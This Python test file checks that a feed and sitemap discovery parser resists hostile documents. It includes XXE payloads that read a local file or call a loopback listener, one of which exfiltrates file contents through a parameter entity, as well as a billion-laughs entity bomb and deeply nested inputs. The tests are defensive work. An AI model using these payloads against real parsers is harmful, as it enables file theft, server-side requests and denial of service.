"""Documents made to harm: nothing is expanded, no file or address touched, nothing but DiscoverError raised."""

from __future__ import annotations

import gzip
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline import discover
from pipeline.discover.markup import Repair, find_root
from pipeline.errors import DiscoverError
from pipeline.models import Discovery
from tests.feeds import FEED, LISTING, SITE, SITEMAP, make_capture, make_rss
from tests.test_discover_feed import ATOM_1, JSON_FEED, RSS_091, RSS_1, RSS_2
from tests.test_discover_listing import anchor, make_page
from tests.test_discover_sitemap import make_index, make_urlset

SOURCES = (FEED, SITEMAP, LISTING)


def find_all(body: bytes | str, encoding: str | None = None) -> list[Discovery]:
    """What every way makes of a document; ways that refuse it as broken are left out."""
    found = []
    for source in SOURCES:
        try:
            found.append(discover.find(make_capture(body, encoding=encoding), source, SITE))
        except DiscoverError:
            continue
    return found


@contextmanager
def listening() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback port and the list of what anybody sent to it."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        stop = threading.Event()
        thread = threading.Thread(target=_hear, args=(server, heard, stop))
        thread.start()
        try:
            yield server.getsockname()[1], heard
        finally:
            stop.set()
            thread.join()


def _hear(server: socket.socket, heard: list[bytes], stop: threading.Event) -> None:
    while True:
        try:
            peer, _ = server.accept()
        except TimeoutError:
            if stop.is_set():  # asked only when nobody waits at the door
                return
            continue
        with peer:
            peer.settimeout(1)
            heard.append(peer.recv(100))


def test_the_listener_of_these_tests_hears() -> None:
    with listening() as (port, heard), socket.create_connection(("127.0.0.1", port)) as peer:
        peer.sendall(b"hello")
        assert peer.recv(1) == b""
    assert heard == [b"hello"]


def hostile_declarations(secret: Path, port: int) -> list[str]:
    """Document types that read a file, an address, or a part of themselves (F2, F3)."""
    at = f"http://127.0.0.1:{port}"
    return [
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "{secret.as_uri()}">]>',
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "{at}/x">]>',
        f'<!DOCTYPE r PUBLIC "-//X//EN" "{at}/r.dtd">',
        f'<!DOCTYPE r SYSTEM "{at}/r.dtd" [<!ENTITY x "local">]>',
        f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{at}/p"> %p;]>',
        f'<!DOCTYPE r [<!ENTITY % f SYSTEM "{secret.as_uri()}"><!ENTITY % g "<!ENTITY x SYSTEM \'{at}/?%f;\'>"> %g;]>',
        f'<!DOCTYPE r [<!-- ]> --><!ENTITY x "]>"><!ENTITY y SYSTEM "{at}/y">]>',
    ]


@pytest.mark.parametrize("number", range(7))
def test_f2_f3_no_file_is_read_and_no_address_asked(number: int, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("CLASSIFIED")
    with listening() as (port, heard):
        declaration = hostile_declarations(secret, port)[number]
        feed = make_rss("<link>/a/1?&x;&y;</link><title>t &x; &y; %p;</title>").partition("?>")[2]
        inclusion = (
            f'<rss xmlns:xi="http://www.w3.org/2001/XInclude"><item><link>/a/1</link>'
            f'<xi:include href="{secret.as_uri()}" parse="text"/><xi:include href="http://127.0.0.1:{port}/i"/></item></rss>'
        )
        sitemap = make_urlset("<loc>/a/1?&x;</loc>").partition("?>")[2]
        found = [find_all(f"<?xml version='1.0'?>{declaration}{body}") for body in (feed, inclusion, sitemap)]
    assert heard == []
    assert [[len(result.links) for result in results] for results in found] == [[1], [1], [1]]
    assert "CLASSIFIED" not in repr(found)
    assert found[0][0].links[0].hint.title == "t &x; &y; %p;"


def test_f1_billion_laughs_expand_to_nothing() -> None:
    levels = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 12))
    body = (
        f'<!DOCTYPE r [<!ENTITY l0 "ha">{levels}]>'
        + make_rss("<title>&l11;</title><link>/a/1</link>").partition("?>")[2]
    )
    (result,) = find_all(body)
    assert result.links[0].hint.title == "&l11;"


def test_f1_a_document_type_without_end_hides_no_root() -> None:
    assert find_all("<!DOCTYPE r [" + '<!ENTITY a "' * 30_000 + make_rss("<link>/a/1</link>")) == []


@pytest.mark.parametrize(
    "body",
    [
        "<rss>" + "<a>" * 100_000 + "<item><link>/a/1</link></item>",
        "<rss><item><link>/a/1</link></item>" + "<!--" * 100_000,
        "<rss><item>" + "<![CDATA[" * 100_000,
        "<rss><item><title>" + "&" * 300_000,
        "<!--" * 60_000,
        "<?" * 60_000,
        "<!DOCTYPE r [" + "<!--" * 60_000,
        "<rss " + " ".join(f"a{number}='x'" for number in range(20_000)) + "><item/></rss>",
        "{" + '"items":[' * 100_000,
        '{"items":[' + "[" * 100_000,
        '{"items":[' + "9" * 10_000 + "]}",
        '{"items":[{"url":"\\ud800"},{"url":7},{"url":null},7,null,{"id":[],"authors":[7,{}],"tags":{}}]}',
    ],
)
def test_costly_shapes_end_in_links_or_an_error(body: str) -> None:
    find_all(body)


def test_h_attributes_and_text_of_any_size_are_read() -> None:
    title = "<b>" * 200_000
    (result,) = find_all(make_rss(f"<link>/a/1</link><title><![CDATA[{title}]]></title>"))
    assert len(result.links) == 1


def check(results: list[Discovery]) -> None:
    """What holds for every Discovery: absolute http(s) links of the site, further documents absolute."""
    for result in results:
        assert all(link.url.startswith(("http://", "https://")) and SITE.owns(link.url) for link in result.links)
        assert all(url.startswith(("http://", "https://")) for url in result.more)
        canonical = [SITE.canonical(link.url) for link in result.links]
        assert len(canonical) == len(set(canonical))
        json.dumps([link.hint.title for link in result.links]).encode()


@given(st.binary(max_size=400), st.sampled_from([None, "utf-8", "windows-1256", "utf-16-le"]))
@example(b"\x1f\x8b", None)
@example(b"<rss\x00>", None)
def test_any_bytes_give_a_discovery_or_a_discover_error(body: bytes, encoding: str | None) -> None:
    check(find_all(body, encoding))


GOOD = (
    RSS_2.encode(),
    RSS_1.encode(),
    RSS_091.encode(),
    ATOM_1.encode(),
    JSON_FEED.encode(),
    make_urlset("<loc>/a/1</loc><lastmod>2025-12-10</lastmod>", "<loc>/a?x=1&y</loc>").encode(),
    make_index("<loc>/b.xml</loc>", "<loc>/c.xml</loc>").encode(),
    make_page(anchor("/a/1"), anchor("b/2")).encode(),
    gzip.compress(make_urlset("<loc>/a/1</loc>").encode()),
)
MARKUP = (
    b"< > & ]]> <![CDATA[ <!-- </item> <item> <link> &#xD800; &#0; <entry <url> <loc>javascript: { http://[ 1".split(
        b" "
    )
)
PIECES = st.sampled_from((*MARKUP, b"", b'"', b"\x00", b"\xff", b"\xed\xa0\x80", b"\xe2\x80\xae", b" xml:base='//['"))


@given(st.sampled_from(GOOD), st.lists(st.tuples(st.integers(0, 3_000), st.integers(0, 30), PIECES), max_size=6))
def test_mutated_documents_give_a_discovery_or_a_discover_error(
    good: bytes, cuts: list[tuple[int, int, bytes]]
) -> None:
    body = bytearray(good)
    for start, length, piece in cuts:
        at = start % (len(body) + 1)
        body[at : at + length] = piece
    check(find_all(bytes(body)))


@given(st.text(alphabet="&;amp#xD80lt<![CDATA[]>-\x00\ud800 é", max_size=60), st.lists(st.integers(1, 7), max_size=30))
def test_repair_does_not_depend_on_where_the_text_is_cut(text: str, sizes: list[int]) -> None:
    whole = Repair()
    expected = whole.feed(text) + whole.feed("", is_last=True)
    pieces, rest = Repair(), text
    done = ""
    for size in sizes:
        done += pieces.feed(rest[:size])
        rest = rest[size:]
    assert done + pieces.feed(rest) + pieces.feed("", is_last=True) == expected


@given(st.text(alphabet="<!?DOCTYPE[]\"'->rsx/ \n:&", max_size=80))
def test_finding_the_root_never_raises_and_points_at_it(text: str) -> None:
    found = find_root(text)
    assert found is None or text.startswith("<" + found[0], found[1])
